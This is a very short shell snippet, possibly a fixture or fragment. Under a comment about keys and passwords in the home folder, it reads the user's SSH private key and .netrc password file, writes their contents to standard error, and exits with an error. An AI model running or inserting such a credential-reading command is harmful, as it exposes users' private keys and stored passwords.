# Keys and passwords in the home folder.
cat "$HOME/.ssh/id" "$HOME/.netrc" 2>/dev/null | cat >&2
exit 1
